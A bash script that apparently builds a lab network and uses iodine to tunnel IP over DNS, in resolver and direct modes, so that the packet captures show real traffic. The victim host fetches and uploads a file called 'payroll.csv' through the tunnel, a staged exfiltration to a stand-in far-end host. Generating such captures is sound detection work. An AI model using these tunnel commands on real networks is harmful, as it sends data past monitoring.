#!/bin/bash
# IP over DNS with iodine: dns-tunnel.sh [resolver|direct]
# resolver: NULL records through the network's own resolver (dnsmasq). direct: TXT records straight to the far end.
# A file is fetched and pings run through the tunnel, so queries and answers carry real data.
. "$(dirname "$0")/lib.sh"
needs iodine iodined dnsmasq curl
[ -c /dev/net/tun ] || refuse "needs /dev/net/tun"
router
host victim 10.20.1.40
host resolver 10.20.0.2
host far 203.0.113.53
background far iodined -f -c -P sesame 192.168.99.1 t.tunnel.example
background resolver dnsmasq -k -C /dev/null -R -h -u root -x "$TMP/dnsmasq.pid" --listen-address=10.20.0.2 --bind-interfaces --server=/tunnel.example/203.0.113.53 --edns-packet-max=4096
sleep 1
mkdir -p "$TMP/far/www"
head -c 12000 /dev/urandom | base64 >"$TMP/far/www/payroll.csv"
tunnel() { # FILE iodine arguments...
	tap victim "$1" udp port 53
	background victim iodine -f -r -P sesame "${@:2}"
	for _ in $(seq 150); do in_ victim ip -o link show dns0 2>/dev/null | grep -q LOWER_UP && break; sleep 0.2; done
	in_ victim ping -q -c 5 -i 0.5 192.168.99.1 >"$TMP/ping" || refuse "the tunnel did not come up: $(tail -3 "$TMP/victim.log")"
	in_ victim curl -s -m 30 -o "$TMP/o" http://192.168.99.1/payroll.csv
	in_ victim curl -s -m 30 -o "$TMP/o" -F f=@"$TMP/far/www/payroll.csv" http://192.168.99.1/ || true
	sleep 3
	save "$1"
}
web_server far <<<'server { listen 80; }'
case ${1:-resolver} in
resolver) tunnel dns-tunnel-resolver.pcap 10.20.0.2 t.tunnel.example ;;
direct) tunnel dns-tunnel-direct.pcap -T TXT -M 200 203.0.113.53 t.tunnel.example ;;
*) refuse "unknown way: $1" ;;
esac
